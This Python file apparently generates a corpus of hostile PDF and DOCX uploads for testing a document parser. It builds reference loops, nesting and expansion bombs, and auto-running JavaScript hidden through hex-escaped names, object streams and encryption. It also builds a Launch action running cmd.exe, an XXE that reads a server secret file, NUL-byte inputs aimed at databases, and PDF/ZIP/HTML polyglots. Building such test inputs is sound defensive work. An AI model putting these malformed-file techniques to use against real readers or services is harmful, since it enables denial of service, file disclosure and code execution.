@hostile(PDF, "failed", "A page tree of 5,000 levels.")
def pdf_deep_page_tree() -> bytes:
    levels = 5_000
    branches = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (7 + n) for n in range(levels)]
    branches[-1] = TREE
    return assembled(_objects(*branches, tree=b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"))


@hostile(PDF, "either", "An outline whose entry is its own next one.")
def pdf_outline_loop() -> bytes:
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    entry = b"<< /Title (Again) /Parent 6 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>"
    return assembled(_objects(root, entry, catalog=b"/Outlines 6 0 R"))


@hostile(PDF, "either", "An outline whose entry is its own child.")
def pdf_outline_depth_loop() -> bytes:
    root = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    entry = b"<< /Title (Again) /Parent 6 0 R /First 7 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>"
    return assembled(_objects(root, entry, catalog=b"/Outlines 6 0 R"))


@hostile(PDF, "either", "A table of objects whose previous one is itself.")
def pdf_xref_loop() -> bytes:
    made = assembled(_objects(), b"/Prev 0000000000")
    return made.replace(b"/Prev 0000000000", b"/Prev %010d" % (made.index(b"\nxref\n") + 1))


@hostile(PDF, "either", "A table that says it has two billion objects.")
def pdf_xref_size_lie() -> bytes:
    return assembled(_objects()).replace(b"xref\n0 6\n", b"xref\n0 2000000000\n")


def _object_stream(objects: Mapping[int, bytes], entries: bytes = b"") -> bytes:
    """A stream that holds objects."""
    places, body = [], b""
    for number, content in objects.items():
        places.append(b"%d %d" % (number, len(body)))
        body += content + b"\n"
    head = b" ".join(places) + b"\n"
    kind = b"/Type /ObjStm /N %d /First %d" % (len(objects), len(head))
    return stream(zlib.compress(head + body, 9), b"%b %b %b" % (kind, FLATE, entries))


def _with_object_stream(
    objects: Mapping[int, bytes], packed: Mapping[int, tuple[int, int]]
) -> bytes:
    """A PDF whose table is a stream. Of ``packed`` it says which stream holds them, and where."""
    body = bytearray(PDF_HEADER)
    table = max(*objects, *packed) + 1
    rows = [struct.pack(">BIH", 0, 0, 65_535)] * table
    for number, content in objects.items():
        rows[number] = struct.pack(">BIH", 1, len(body), 0)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    for number, place in packed.items():
        rows[number] = struct.pack(">BIH", 2, *place)
    start = len(body)
    rows.append(struct.pack(">BIH", 1, start, 0))
    kind = b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % len(rows)
    body += b"%d 0 obj\n%b\nendobj\n" % (table, stream(b"".join(rows), kind))
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % start


def _without_catalog() -> dict[int, bytes]:
    return dict(enumerate(_objects()[1:], 2))


@hostile(PDF, "failed", "The catalog is in a stream of objects that is in itself.")
def pdf_object_stream_loop() -> bytes:
    return _with_object_stream(_without_catalog(), {1: (6, 0), 6: (6, 1)})


@hostile(PDF, "either", "An object is looked for in a stream of objects that extends itself.")
def pdf_object_stream_extends_itself() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>"
    objects = _without_catalog() | {6: _object_stream({1: catalog}, b"/Extends 6 0 R")}
    return _with_object_stream(objects, {1: (6, 0), 7: (6, 1)})


@hostile(PDF, "either", "A stream whose length is the stream.")
def pdf_indirect_length_loop() -> bytes:
    return _with_content(b"<< /Length 4 0 R >>\nstream\n" + drawn(TEXT) + b"\nendstream")


@hostile(PDF, "failed", "Arrays in each other, 50,000 deep, in the page itself.")
def pdf_deep_arrays() -> bytes:
    return assembled(_objects(page=b"/Annots " + b"[" * 50_000 + b"]" * 50_000))


@hostile(PDF, "either", "Arrays in each other, 50,000 deep, in what the page draws.")
def pdf_deep_arrays_in_content() -> bytes:
    deep = b"[" * 50_000 + b"]" * 50_000
    return _with_content(stream(drawn(TEXT) + b"\nBT " + deep + b" TJ ET"))


@hostile(PDF, "either", "A number of a million digits.")
def pdf_endless_number() -> bytes:
    return assembled(_objects(page=b"/UserUnit " + b"7" * MEGABYTE))


@hostile(PDF, "either", "A form that draws itself.")
def pdf_form_xobject_loop() -> bytes:
    return _with_forms([_form(b"BT /F1 11 Tf (again) Tj ET /X Do", 6)])


@hostile(PDF, "failed", "Forms that each draw the next ten times: a thousand billion words.")
def pdf_form_xobject_fanout() -> bytes:
    levels = 12
    forms = [_form(b"/X Do " * 10, 7 + n) for n in range(levels)]
    return _with_forms([*forms, _form(b"BT /F1 11 Tf (again) Tj ET", 6 + levels)])


def _form(content: bytes, drawn_by_name: int) -> bytes:
    """A form that knows the form of that number as X."""
    known = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % drawn_by_name
    return stream(content, b"/Type /XObject /Subtype /Form /BBox %b %b" % (A4, known))


def _with_forms(forms: Sequence[bytes]) -> bytes:
    content = stream(drawn(TEXT) + b"\n/X Do")
    return assembled(_objects(*forms, resources=b"/XObject << /X 6 0 R >>", content=content))


# PDF: what acts when it is opened

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
HARMLESS = b"/S /GoTo /D [3 0 R /Fit]"
WIDGET = b"/Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [56 40 300 60]"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [56 40 300 60] /A %b >>"


@hostile(PDF, "failed", "A script that runs when it is opened.")
def pdf_javascript_open_action() -> bytes:
    return assembled(_objects(SCRIPT, catalog=b"/OpenAction 6 0 R"))


@hostile(PDF, "failed", "The same, its names written in another way.")
def pdf_javascript_hex_names() -> bytes:
    script = SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/#4AS")
    return assembled(_objects(script, catalog=b"/Open#41ction 6 0 R"))


@hostile(
    PDF, "failed", "The same, in a stream of objects, where a search of the file finds nothing."
)
def pdf_javascript_in_object_stream() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>"
    objects = _without_catalog() | {6: _object_stream({1: catalog, 7: SCRIPT})}
    return _with_object_stream(objects, {1: (6, 0), 7: (6, 1)})


@hostile(
    PDF,
    "failed",
    "The same, encrypted with a password of no letters, which readers try by themselves.",
)
def pdf_javascript_encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_javascript_open_action())))
    writer.encrypt("", "owner", algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@hostile(PDF, "failed", "A harmless action, and a script after it.")
def pdf_javascript_chained() -> bytes:
    action = b"<< %b /Next [6 0 R] >>" % HARMLESS
    return assembled(_objects(SCRIPT, catalog=b"/OpenAction " + action))


@hostile(PDF, "failed", "Scripts by name, which all run when it is opened.")
def pdf_javascript_names_tree() -> bytes:
    names = b"/Names << /JavaScript << /Names [(start) 6 0 R] >> >>"
    return assembled(_objects(SCRIPT, catalog=names))


@hostile(PDF, "failed", "Scripts by name, some branches down.")
def pdf_javascript_names_branch() -> bytes:
    leaf = b"<< /Limits [(a) (z)] /Names [(start) 6 0 R] >>"
    branch = b"<< /Limits [(a) (z)] /Kids [7 0 R] >>"
    names = b"/Names << /JavaScript << /Kids [8 0 R] >> >>"
    return assembled(_objects(SCRIPT, leaf, branch, catalog=names))


@hostile(PDF, "failed", "A script that runs when it is closed.")
def pdf_javascript_document_action() -> bytes:
    return assembled(_objects(SCRIPT, catalog=b"/AA << /WC 6 0 R >>"))


@hostile(PDF, "failed", "A script that runs when a page is turned.")
def pdf_javascript_page_action() -> bytes:
    return assembled(_objects(SCRIPT, page=b"/AA << /O 6 0 R >>"))


@hostile(PDF, "failed", "A script in a form's field, which runs with each key.")
def pdf_javascript_form_field() -> bytes:
    field = b"<< %b /AA << /K 6 0 R >> >>" % WIDGET
    form = b"/AcroForm << /Fields [7 0 R] >>"
    return assembled(_objects(SCRIPT, field, catalog=form, page=b"/Annots [7 0 R]"))


@hostile(PDF, "failed", "A script in a form's field that no page shows.")
def pdf_javascript_hidden_field() -> bytes:
    field = b"<< /FT /Tx /T (all) /Kids [8 0 R] >>"
    child = b"<< /Parent 7 0 R /T (sum) /AA << /C 6 0 R >> >>"
    return assembled(_objects(SCRIPT, field, child, catalog=b"/AcroForm << /Fields [7 0 R] >>"))


@hostile(PDF, "failed", "A script behind a link.")
def pdf_javascript_link() -> bytes:
    return assembled(_objects(SCRIPT, page=b"/Annots [%b]" % (LINK % b"6 0 R")))


@hostile(PDF, "failed", "A script behind an entry of the outline.")
def pdf_javascript_outline() -> bytes:
    root = b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>"
    entry = b"<< /Title (Start) /Parent 7 0 R /A 6 0 R >>"
    return assembled(_objects(SCRIPT, root, entry, catalog=b"/Outlines 7 0 R"))


@hostile(PDF, "failed", "A script that calls itself the showing of a film.")
def pdf_javascript_rendition() -> bytes:
    action = SCRIPT.replace(b"/JavaScript", b"/Rendition")
    return assembled(_objects(action, catalog=b"/OpenAction 6 0 R"))


@hostile(PDF, "failed", "It starts a program when it is opened.")
def pdf_launch_action() -> bytes:
    return assembled(_objects(LAUNCH, catalog=b"/OpenAction 6 0 R"))


@hostile(PDF, "failed", "A link that starts a program.")
def pdf_launch_link() -> bytes:
    return assembled(_objects(LAUNCH, page=b"/Annots [%b]" % (LINK % b"6 0 R")))


@hostile(
    PDF, "either", "A harmless action that comes after itself: a trap for who looks for scripts."
)
def pdf_action_loop() -> bytes:
    action = b"<< %b /Next 6 0 R >>" % HARMLESS
    return assembled(_objects(action, catalog=b"/OpenAction 6 0 R"))


@hostile(PDF, "either", "A tree of names that is its own branch: a trap for who looks for scripts.")
def pdf_name_tree_loop() -> bytes:
    branch = b"<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"
    return assembled(_objects(branch, catalog=b"/Names << /JavaScript 6 0 R /Dests 6 0 R >>"))


@hostile(PDF, "either", "A form's field that is its own child and parent.")
def pdf_field_loop() -> bytes:
    field = b"<< %b /Kids [6 0 R 6 0 R] /Parent 6 0 R >>" % WIDGET
    form = b"/AcroForm << /Fields [6 0 R] >>"
    return assembled(_objects(field, catalog=form, page=b"/Annots [6 0 R]"))


@hostile(PDF, "either", "A program is attached to it.")
def pdf_embedded_program() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(calc.exe) 7 0 R] >> >>"
    file = b"<< /Type /Filespec /F (calc.exe) /EF << /F 6 0 R >> >>"
    return assembled(_objects(stream(_program(), b"/Type /EmbeddedFile"), file, catalog=names))


# PDF: what it would fetch, and text that a database may choke on


@hostile(PDF, "either", "A form in XML with an external entity.")
def pdf_xfa_xxe() -> bytes:
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{SECRET_FILE}">]>'
    form = f'{entity}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&xxe;</xdp:xdp>'
    catalog = b"/AcroForm << /Fields [] /XFA [(xdp) 6 0 R] >>"
    return assembled(_objects(stream(form.encode()), catalog=catalog))


@hostile(PDF, "either", "Facts in XML, with entities of entities.")
def pdf_xmp_billion_laughs() -> bytes:
    space = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    facts = f'{_laughs()}<rdf:RDF xmlns:rdf="{space}">&lol11;</rdf:RDF>'
    metadata = stream(facts.encode(), b"/Type /Metadata /Subtype /XML")
    return assembled(_objects(metadata, catalog=b"/Metadata 6 0 R"))


@hostile(PDF, "either", "A page whose content is a file of the server's.")
def pdf_external_file() -> bytes:
    return _with_content(stream(b"", b"/F (%b)" % SECRET_FILE.encode()))


@hostile(PDF, "either", "Its title holds NUL, which PostgreSQL's text can't.")
def pdf_nul_in_title() -> bytes:
    title = text_string("Quarterly\0report")
    return assembled(_objects(b"<< /Title %b >>" % title), b"/Info 6 0 R")


@hostile(PDF, "either", "Its text holds NUL, which PostgreSQL's text can't.")
def pdf_nul_in_text() -> bytes:
    return _with_content(stream(drawn("Quarterly\0report")))


@hostile(PDF, "either", "Its text and title hold halves of characters, which UTF-8 can't.")
def pdf_lone_surrogates() -> bytes:
    font = HELVETICA.removesuffix(b">>") + b"/ToUnicode 6 0 R >>"
    halves = stream(b"begincmap\n1 beginbfchar\n<51> <D83D>\nendbfchar\nendcmap")
    title = b"<< /Title <FEFF0041D83D0042> >>"
    return assembled(_objects(halves, title, font=font), b"/Info 7 0 R")


@hostile(PDF, "either", "A title of two million letters.")
def pdf_long_title() -> bytes:
    return assembled(_objects(b"<< /Title (%b) >>" % (b"long " * 400_000)), b"/Info 6 0 R")


# PDF: damaged, or of two kinds


@hostile(PDF, "failed", "Its second half is missing.")
def pdf_truncated() -> bytes:
    whole = pdf(*[f"{TEXT}, page {n}" for n in range(10)])
    return whole[: len(whole) // 2]


@hostile(PDF, "failed", "The header of a PDF, then noise.")
def pdf_garbage_after_header() -> bytes:
    return PDF_HEADER + random.Random(0).randbytes(20_000)


@hostile(PDF, "failed", "The header of a PDF, and no more.")
def pdf_header_only() -> bytes:
    return b"%PDF-1.7\n"


@hostile(PDF, "failed", "A good PDF, and a good DOCX at its end, where ZIP readers begin.")
def pdf_with_zip_at_end() -> bytes:
    return pdf(TEXT) + good_docx(TEXT)


@hostile(PDF, "failed", "A DOCX as a stream of a PDF, the PDF's end as the comment of the ZIP.")
def pdf_around_zip() -> bytes:
    whole = assembled([*_objects(), stream(good_docx(TEXT))])
    at = whole.rindex(b"\nendstream")
    # The archive's last two bytes tell the length of its comment.
    return whole[: at - 2] + struct.pack("<H", len(whole) - at) + whole[at:]


@hostile(DOCX, "failed", "A good DOCX whose first entry is a PDF, unpacked, within 1,024 bytes.")
def zip_with_pdf_header_inside() -> bytes:
    paper = pdf(TEXT)
    first = _Entry(b"docProps/report.pdf", len(paper), len(paper), zlib.crc32(paper), STORED)
    return _archive([(first, paper), *_declared_entries()])


def _declared_entries() -> list[_Packed]:
    """A good DOCX's entries that also tell the type of a PDF."""
    kind = '<Default Extension="pdf" ContentType="application/pdf"/>'
    parts = parts_of(good_docx(TEXT)) | {CONTENT_TYPES: _declared(kind)}
    return list(starmap(_honest, parts.items()))


@hostile(PDF, "refused", "The same, under the other name.")
def zip_with_pdf_header_inside_named_pdf() -> bytes:
    return zip_with_pdf_header_inside()


@hostile(
    PDF, "either", "A page for browsers in a comment of the PDF, where sniffing would find it."
)
def pdf_html_polyglot() -> bytes:
    catalog, *others = _objects()
    comment = b"%<html><script>alert(1)</script></html>\n"
    return assembled([comment + catalog, *others])
